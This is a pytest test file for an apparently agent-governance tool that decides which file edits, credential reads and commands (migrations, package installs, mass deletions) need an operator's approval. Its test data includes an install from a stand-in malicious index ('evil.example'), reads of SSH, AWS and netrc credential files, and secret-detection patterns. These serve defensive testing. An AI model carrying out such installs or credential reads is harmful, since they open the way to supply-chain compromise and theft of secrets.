"""The table of sensitive operations, and an operator's word on it."""

from pathlib import Path

import pytest

from agentvine.domain.installs import installed
from agentvine.domain.sensitive import RULES, Operation, Sensitive, Touched, judge, judge_all, looks_secret
from agentvine.domain.tool_policy import FileKind
from agentvine.domain.worker_types import TaskType
from agentvine.kit.configuration import ConfigurationError
from agentvine.worker.files import kind_of
from agentvine.worker.sensitive_file import parse_sensitive, read_sensitive

SHOP = "https://github.com/acme/shop.git"


def touching(*paths: str, written: bool = True, kind: TaskType = TaskType.FEATURE, repository: str = SHOP) -> Operation:
    return Operation(kind, repository, tuple(Touched(path, kind_of(path), written) for path in paths))


def running(command: str) -> Operation:
    return Operation(TaskType.FEATURE, SHOP, commands=(tuple(command.split()),))


def operator(text: str) -> Sensitive:
    return parse_sensitive(text.encode(), "sensitive.toml")


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        ("app/migrations/0002_more.py", "database-migrations"),
        ("alembic/versions/1a.py", "database-migrations"),
        ("db/migrate/20260101_x.rb", "database-migrations"),
        ("sql/V2__more.sql", "database-migrations"),
        (".github/workflows/ci.yml", "ci-and-deployment"),
        (".GitHub/Workflows/ci.yml", "ci-and-deployment"),
        (".gitlab-ci.yml", "ci-and-deployment"),
        ("Dockerfile", "ci-and-deployment"),
        ("services/api/Dockerfile.dev", "ci-and-deployment"),
        ("k8s/app.yaml", "ci-and-deployment"),
        ("infra/main.tf", "ci-and-deployment"),
        ("deploy/run.sh", "ci-and-deployment"),
        (".agentvine.toml", "agents-and-hooks"),
        (".claude/settings.json", "agents-and-hooks"),
        ("sub/CLAUDE.md", "agents-and-hooks"),
        ("pyproject.toml", "dependencies"),
        ("requirements-dev.txt", "dependencies"),
        ("web/package.json", "dependencies"),
        ("web/package-lock.json", "dependencies"),
        ("Cargo.lock", "dependencies"),
        ("go.mod", "dependencies"),
        ("src/auth/session.py", "security-and-auth"),
        ("src/oauth.ts", "security-and-auth"),
        ("src/Security/Filter.java", "security-and-auth"),
        ("LICENSE", "licences"),
        ("licence.txt", "licences"),
        ("COPYING", "licences"),
        (".env", "credentials"),
        ("config/.env.production", "credentials"),
        ("certs/server.pem", "credentials"),
        ("id_ed25519", "credentials"),
        (".npmrc", "credentials"),
        # the name of a folder alone: a link in its place
        *((name, "agents-and-hooks") for name in (".claude", "web/.claude", ".vscode", ".husky", ".devcontainer")),
        *((name, "database-migrations") for name in ("migrations", "app/Migrations")),
        *((name, "security-and-auth") for name in ("auth", "src/auth")),
        # named like a test, and loaded as a migration all the same
        *((f"app/migrations/{name}", "database-migrations") for name in ("test_0099_drop.py", "tests/0003.py")),
        ("alembic/versions/test_x.py", "database-migrations"),
        ("alembic/versions/README.md", "database-migrations"),
        *((name, "dependencies") for name in ("requirements/base.txt", "api/requirements/base.in", "requirements.in")),
        *((name, "dependencies") for name in ("dev-requirements.txt", ".yarnrc.yml", ".yarn/releases/yarn.cjs")),
        *((name, "dependencies") for name in ("gradlew", "gradlew.bat", "mvnw.cmd", "gradle/wrapper/x.jar")),
        (".mvn/extensions.xml", "dependencies"),
        (".devcontainer/devcontainer.json", "agents-and-hooks"),
        *((name, "agents-and-hooks") for name in ("lefthook.yml", "CLAUDE.local.md")),
        *((name, "ci-and-deployment") for name in (".github/dependabot.yml", "action.yml", "sub/action.yaml")),
    ],
)
def test_sensitive_files(path: str, rule: str) -> None:
    ruling = judge(touching(path), Sensitive())
    assert (ruling.rule, ruling.subjects) == (rule, (path,))
    assert path in ruling.reason
    assert "SENSITIVE_RULES" in ruling.reason


@pytest.mark.parametrize(
    "path",
    [
        *(
            "src/app.py",
            "README.md",
            "tests/test_app.py",
            "docs/deploying.md",
            "src/authors.py",
            "src/migration_notes.md",
        ),
        *("tests/test_auth.py", "docs/auth.md", "src/environment.py", ".env.example", "src/license_plate.py"),
        *("src/package.py", "web/components/charts/Pie.tsx", "id_rsa.pub", "src/compose.py", "docs/security/index.md"),
        *("tests/migrations/test_0002.py", "src/test/resources/db/V1__x.sql", "src/authority", ".clauderc"),
        *("src/requirements.py", "src/gradle/wrap.py", ".github/ISSUE_TEMPLATE/bug.md", "db", "alembic"),
    ],
)
def test_files_that_no_rule_names_are_touched_freely(path: str) -> None:
    assert judge(touching(path), Sensitive()).allowed


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        (".github", "ci-and-deployment"),
        (".GitHub/workflows", "ci-and-deployment"),
        ("db", "database-migrations"),
        ("server/alembic", "database-migrations"),
        ("gradle", "dependencies"),
        ("home/.docker", "credentials"),
    ],
)
def test_a_link_in_the_place_of_a_folder_on_the_way_to_sensitive_files(path: str, rule: str) -> None:
    """What it leads to is then found where the pattern says, and no file at such a path is ever changed."""
    link = Operation(TaskType.FEATURE, SHOP, (Touched(path, FileKind.CODE, link=True),))
    assert judge(link, Sensitive()).rule == rule
    spared = operator(f'[[allow]]\nrule = "{rule}"\npaths = [".github/workflows/ci.yml", "db/migrate/1.rb"]')
    assert judge(link, spared).rule == rule
    ordinary = Operation(TaskType.FEATURE, SHOP, (Touched("src/link", FileKind.CODE, link=True),))
    assert judge(ordinary, Sensitive()).allowed


def test_only_credentials_are_sensitive_to_read() -> None:
    for path in ("pyproject.toml", "src/auth/x.py", "LICENSE", ".github/workflows/ci.yml"):
        assert judge(touching(path, written=False), Sensitive()).allowed
    for path in (".env", "~/.ssh/id_rsa", "/home/agent/.aws/config", "/root/.netrc"):
        assert judge(touching(path, written=False), Sensitive()).rule == "credentials"


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("alembic upgrade head", "database-migrations"),
        ("alembic -c x.ini upgrade head", "database-migrations"),
        ("manage.py migrate", "database-migrations"),
        ("rails db:migrate", "database-migrations"),
        ("prisma migrate deploy", "database-migrations"),
        ("pip install leftpad", "package-installs"),
        ("npm install --save-dev leftpad", "package-installs"),
        ("pip install -r requirements.txt --index-url https://evil.example", "package-installs"),
        ("apt-get install -y curl", "package-installs"),
        ("cargo install ripgrep", "package-installs"),
        ("go get example.org/x@latest", "package-installs"),
    ],
)
def test_sensitive_commands(command: str, rule: str) -> None:
    ruling = judge(running(command), Sensitive())
    assert ruling.rule == rule
    assert command in ruling.reason


@pytest.mark.parametrize(
    "command",
    [
        *("alembic history", "manage.py test", "pip install -e .", "pip install -r requirements.txt", "npm ci"),
        *(
            "npm install",
            "pip list",
            "poetry install",
            "uv sync",
            "cargo build",
            "pip install .[dev]",
            "yarn",
            "bundle install",
        ),
    ],
)
def test_commands_that_no_rule_names_are_run_freely(command: str) -> None:
    assert judge(running(command), Sensitive()).allowed


@pytest.mark.parametrize(
    ("command", "packages"),
    [
        ("pip install a b==2 c[x]", ["a", "b==2", "c[x]"]),
        ("uv pip install a", ["a"]),
        ("pip --index-url https://x install a", ["https://x", "a"]),
        ("pip install --target lib a", ["a"]),
        ("pip install -e git+https://x/y", ["git+https://x/y"]),
        ("cargo install --git https://x", ["https://x"]),
        ("pip freeze", []),
        ("install a", []),
        ("", []),
    ],
)
def test_what_a_command_installs(command: str, packages: list[str]) -> None:
    assert installed(command.split()) == packages


def test_deleting_many_files_needs_approval_a_few_do_not() -> None:
    assert judge(Operation(TaskType.REFACTOR, SHOP, deleted=10), Sensitive()).allowed
    assert judge(Operation(TaskType.REFACTOR, SHOP, deleted=11), Sensitive()).rule == "deleting-many-files"
    assert judge(Operation(TaskType.REFACTOR, SHOP, deleted=11), operator("deleted_files = 11")).allowed
    assert not judge(Operation(TaskType.REFACTOR, SHOP, deleted=1), operator("deleted_files = 0")).allowed


def test_a_line_that_looks_like_a_secret_is_about_credentials() -> None:
    leaking = Operation(TaskType.FEATURE, SHOP, secrets=("src/a.py",))
    assert judge(leaking, Sensitive()).rule == "credentials"
    assert judge(leaking, operator('[[allow]]\nrule = "credentials"\npaths = ["src/*.py"]')).allowed
    assert looks_secret("-----BEGIN OPENSSH PRIVATE KEY-----")
    assert looks_secret(f"token = 'ghp_{'a1' * 18}'")
    assert looks_secret(f"export KEY_ghp_{'a1' * 18}")
    assert looks_secret("AKIA" + "A1" * 8 + "_old")
    assert not looks_secret("password = read_password()")
    assert not looks_secret(f"task-ant-{'x' * 30} xghp_{'a1' * 18}")
    unread = Operation(TaskType.FEATURE, SHOP, unread=True)
    assert "too large to be looked through" in judge(unread, Sensitive()).reason
    assert judge(unread, operator('[[allow]]\nrule = "credentials"')).allowed


def test_all_rules_that_are_broken_are_told() -> None:
    rulings = list(judge_all(touching("LICENSE", "go.mod", "go.sum"), Sensitive()))
    assert [(one.rule, one.subjects) for one in rulings] == [
        ("dependencies", ("go.mod", "go.sum")),
        ("licences", ("LICENSE",)),
    ]


# The operator's file


def test_an_exception_holds_where_all_of_it_fits() -> None:
    rules = operator(
        """
        [[allow]]
        rule = "dependencies"
        types = ["feature"]
        repositories = ["https://github.com/acme/*"]
        paths = ["requirements*.txt"]
        """
    )
    assert judge(touching("requirements.txt"), rules).allowed
    assert not judge(touching("requirements.txt", kind=TaskType.BUGFIX), rules).allowed
    assert not judge(touching("requirements.txt", repository="https://github.com/other/shop"), rules).allowed
    ruling = judge(touching("requirements.txt", "pyproject.toml"), rules)
    assert ruling.subjects == ("pyproject.toml",)


def test_a_rule_can_be_allowed_altogether_commands_included() -> None:
    rules = operator('[[allow]]\nrule = "database-migrations"')
    assert judge(touching("app/migrations/1.py"), rules).allowed
    assert judge(running("alembic upgrade head"), rules).allowed
    partly = operator('[[allow]]\nrule = "database-migrations"\npaths = ["app/migrations/*"]')
    assert judge(touching("app/migrations/1.py"), partly).allowed
    assert not judge(running("alembic upgrade head"), partly).allowed


def test_an_operator_adds_rules_and_changes_those_there_are() -> None:
    rules = operator(
        """
        [[rule]]
        name = "billing"
        why = "it moves money"
        paths = ["src/billing/**"]
        unless = ["*.md"]
        commands = ["stripe"]

        [[rule]]
        name = "licences"
        why = "ours is in another file"
        paths = ["TERMS"]
        """
    )
    assert judge(touching("src/billing/deep/x.py"), rules).rule == "billing"
    assert judge(touching("src/billing/README.md"), rules).allowed
    assert judge(running("stripe listen"), rules).rule == "billing"
    assert judge(touching("LICENSE"), rules).allowed
    assert judge(touching("TERMS"), rules).why == "ours is in another file"
    assert len(rules.rules) == len(RULES) + 1


def test_packages_can_be_allowed() -> None:
    rules = operator('packages = ["requests", "types-*", "https://packages.example.org/*"]')
    for command in ("pip install requests==2 types-x", "pip install requests[socks]>=2", "npm i types-node@20"):
        assert judge(running(command), rules).allowed, command
    assert judge(running("pip install --index-url https://packages.example.org/simple requests"), rules).allowed
    assert not judge(running("pip install requests leftpad"), rules).allowed
    assert not judge(running("pip install --index-url https://evil.example requests"), rules).allowed


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("[[", "is no TOML"),
        ('[[allow]]\nrule = "licenses"', "there is no rule 'licenses' to allow; the rules are agents-and-hooks, "),
        ('[[allow]]\nrule = "licences"\ntypes = ["dance"]', "allow.0.types.0: "),
        ('[[rule]]\nname = "x"', "rule.0.why: "),
        ('[[rules]]\nname = "x"', "rules: "),
        ("deleted_files = -1", "deleted_files: "),
        ('[[rule]]\nname = "Bad Name"\nwhy = "x"', "rule.0.name: "),
    ],
)
def test_a_file_that_cannot_be_used_says_where(text: str, said: str) -> None:
    with pytest.raises(ConfigurationError) as caught:
        operator(text)
    assert "SENSITIVE_RULES: sensitive.toml" in str(caught.value)
    assert said in str(caught.value)


def test_a_file_that_is_not_there(tmp_path: Path) -> None:
    assert read_sensitive(None) == Sensitive()
    with pytest.raises(ConfigurationError, match=r"SENSITIVE_RULES: .*absent cannot be read"):
        read_sensitive(tmp_path / "absent")
    (tmp_path / "large").write_bytes(b"#" * 2_000_000)
    with pytest.raises(ConfigurationError, match="larger than"):
        read_sensitive(tmp_path / "large")


def test_a_kind_of_file_that_a_rule_does_not_mean() -> None:
    assert judge(Operation(TaskType.TEST, SHOP, (Touched("auth/x.py", FileKind.TEST),)), Sensitive()).allowed
